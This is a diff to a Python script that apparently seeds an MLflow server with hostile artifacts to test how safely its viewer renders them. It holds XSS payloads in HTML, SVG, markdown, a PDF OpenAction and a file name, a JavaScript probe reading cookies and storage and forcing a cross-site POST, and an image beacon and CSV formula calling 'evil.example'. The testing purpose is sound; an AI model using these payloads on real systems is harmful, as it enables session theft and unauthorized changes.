@@ -12,8 +12,36 @@ import numpy as np
 import pandas as pd
 
 HACK = "document.title='hacked';parent.document.title='hacked'"
+FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)"
+# Each way out of its frame that a logged page may try; what became of it stands in the page.
+ESCAPES = """
+const ways = {
+  parent: () => parent.document.title,
+  top: () => { if (top === self) throw new Error("there is none"); top.location.href = "about:blank" },
+  cookie: () => document.cookie,
+  storage: () => localStorage.length,
+  database: () => new Promise((done, fail) => { const asked = indexedDB.open("x"); asked.onsuccess = done; asked.onerror = fail }),
+  fetch: () => fetch("/api/2.0/mlflow/experiments/get?experiment_id=0"),
+  write: () => fetch("/api/2.0/mlflow/experiments/create", { method: "POST", mode: "no-cors", body: '{"name": "hacked"}' }),
+  xhr: () => new Promise((done, fail) => { const asked = new XMLHttpRequest(); asked.onload = done; asked.onerror = fail; asked.open("GET", "/ui-api/experiments"); asked.send() }),
+  socket: () => new Promise((done, fail) => { const asked = new WebSocket("ws://" + location.host + "/"); asked.onopen = done; asked.onerror = fail }),
+  image: () => new Promise((done, fail) => { const asked = new Image(); asked.onload = done; asked.onerror = fail; asked.src = "http://evil.example/?" + Math.random() }),
+  script: () => new Promise((done, fail) => { const asked = document.createElement("script"); asked.onload = done; asked.onerror = fail; asked.src = "/assets/index.js"; document.body.append(asked) }),
+  eval: () => Function("return 1")(),
+  worker: () => new Promise((done, fail) => { const asked = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); asked.onmessage = done; asked.onerror = fail }),
+  popup: () => { if (open("/") === null) throw new Error("no window") },
+}
+const tried = Object.entries(ways).map(async ([name, way]) => {
+  try { await way(); return name + " reached" } catch { return name + " refused" }
+})
+const form = document.body.appendChild(document.createElement("form"))
+form.action = "/api/2.0/mlflow/experiments/create"; form.method = "post"; form.submit()
+alert("hacked")
+Promise.all(tried).then((all) => { document.getElementById("h").textContent = all.join(", ") })
+"""
 HOSTILE_FILE = "\"><img src=x onerror=alert(1)>'.txt"
 CSV_ROWS = 400_000
+SOUND_S = 600
 
 client = mlflow.MlflowClient()
 experiment_id = client.create_experiment("artifacts")
@@ -33,7 +61,7 @@ def png(shade: int, size: int = 32) -> bytes:
 
 def pdf() -> bytes:
     objects = [
-        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1);document.title='hacked') >> >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << >> >>",
         b"<< /Length 31 >>\nstream\n1 0 0 rg 50 50 200 100 re f    \nendstream",
@@ -61,7 +89,7 @@ geo = {
 with tempfile.TemporaryDirectory() as folder:
     root = Path(folder)
     files = {
-        "page.html": f"<h1 id=h>plot</h1><script>document.getElementById('h').textContent='ran';try{{{HACK}}}catch(e){{}};fetch('/api/2.0/mlflow/experiments/search')</script>",
+        "page.html": f"<h1 id=h>plot</h1><script>{ESCAPES}</script>",
         "evil.svg": f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload=\"{HACK}\"><script>{HACK}</script><rect width='40' height='40' fill='teal'/></svg>",
         "readme.md": f"# Title\n\n<script>{HACK}</script><img src=x onerror=\"{HACK}\">\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
         "config.yaml": "lr: 0.1\nlayers: [1, 2]\n",
@@ -69,7 +97,10 @@ with tempfile.TemporaryDirectory() as folder:
         "broken.json": '{"a": ',
         "map.geojson": json.dumps(geo),
         "small.tsv": "name\tvalue\nb\t10\na\t9\n\"q\t1\"\t\n",
-        "log.txt": "".join(f"line {number}\n" for number in range(200_000)),
+        "log.txt": "".join(f"line {number}\n" for number in range(500_000)),
+        "train.log": "first\n",
+        "train.py": '"""Trains\nfor a while."""\nimport os\n',
+        "formula.csv": f'a,b\n1,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n',
         "nothing.txt": "",
         HOSTILE_FILE: "hostile name",
         "nested/deep/er/MLmodel": "artifact_path: model\n",
@@ -85,13 +116,19 @@ with tempfile.TemporaryDirectory() as folder:
         sound.setnchannels(1)
         sound.setsampwidth(2)
         sound.setframerate(8000)
-        sound.writeframes(b"\0\0" * 8000)
+        sound.writeframes(b"\0\0" * 8000 * SOUND_S)
+    (root / "broken.wav").write_bytes(b"RIFF no sound")
     pd.DataFrame({"id": range(5000), "name": [f"row {index}" for index in range(5000)]}).to_parquet(root / "table.parquet")
+    # One row group, and in it more of each column than is read at first.
+    numbers = np.random.default_rng(1).random((400_000, 3))
+    pd.DataFrame(numbers, columns=["x", "y", "z"]).to_parquet(root / "large.parquet")
+    pd.DataFrame({"list": [[1, 2], [3]], "struct": [{"a": 1}, None]}).to_parquet(root / "nested.parquet")
     row = ",".join(["0.123456789"] * 10)
     (root / "large.csv").write_text("id," + ",".join(f"c{index}" for index in range(10)) + "\n" + "".join(f"{index},{row}\n" for index in range(CSV_ROWS)))
     client.log_artifacts(run, folder)
 client.log_table(run, {"prompt": ["hello", "<i>x</i>"], "score": [0.5, 0.75]}, "eval.json")
 for run_id, shade in [(run, 0), (other, 120)]:
+    client.log_image(run_id, np.full((16, 16, 3), shade, dtype=np.uint8), "plots/one.png")
     for step in range(3):
         client.log_image(run_id, np.full((16, 16, 3), shade + step * 40, dtype=np.uint8), key="val/sample", step=step * 10)
 
